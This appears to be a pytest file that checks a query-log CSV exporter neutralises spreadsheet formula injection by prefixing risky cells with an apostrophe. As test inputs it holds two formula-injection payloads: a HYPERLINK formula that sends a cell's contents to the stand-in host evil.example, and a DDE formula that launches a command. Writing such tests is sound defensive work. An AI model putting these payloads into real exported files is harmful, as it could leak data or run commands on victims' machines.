"""CSV exports of query-log text are safe to open in a spreadsheet (no formula injection)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from parser.app import analysis as A

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CMD = "=cmd|' /C calc'!A0 tv"


def _read(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_formula_text_is_quoted_numbers_are_not(tmp_path: Path) -> None:
    rows = A.Rows([A.NilRow(text=EVIL, count=3, labels=("creator",), example=CMD),
                   A.NilRow(text="-20% tv", count=-3, labels=("@x", "price"), example="+1 tv"),
                   A.NilRow(text="\tsamsung", count=1, labels=(), example="\rlg tv"),
                   A.NilRow(text="samsung tv", count=2, labels=("creator",), example="a=b")])
    out = A.export_tables({"nil_mentions": rows}, tmp_path)
    assert [e.rows for e in out] == [4]
    assert _read(tmp_path / "nil_mentions.csv") == [
        ["text", "count", "labels", "example", "in_kg"],
        ["'" + EVIL, "3", "creator", "'" + CMD, ""],
        ["'-20% tv", "-3", "'@x; price", "'+1 tv", ""],
        ["'\tsamsung", "1", "", "'\rlg tv", ""],
        ["samsung tv", "2", "creator", "a=b", ""],
    ]


@pytest.mark.parametrize("value, cell", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-x", "'-x"), ("@sum", "'@sum"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("tv", "tv"), ("", ""), (None, ""), (-3, -3), (2.5, 2.5), (-0.5, -0.5),
    ((-3, "tv"), "'-3; tv"), (("tv", "=1"), "tv; =1"),
])
def test_csv_cell(value: object, cell: object) -> None:
    assert A._csv_cell(value) == cell


def test_a_carriage_return_inside_a_cell_starts_no_row(tmp_path: Path) -> None:
    """A lone ``\\r`` stays inside a batch query ("lg\\rtv"): written unquoted it ended the
    row, and the rest of the cell (``=1+1``) was the first, unguarded cell of a new row."""
    rows = A.Rows([A.NilRow(text="lg\r=1+1", count=1, labels=("creator",), example="x\ry")])
    A.export_tables({"nil": rows}, tmp_path)
    assert _read(tmp_path / "nil.csv") == [["text", "count", "labels", "example", "in_kg"],
                                           ["lg\r=1+1", "1", "creator", "x\ry", ""]]
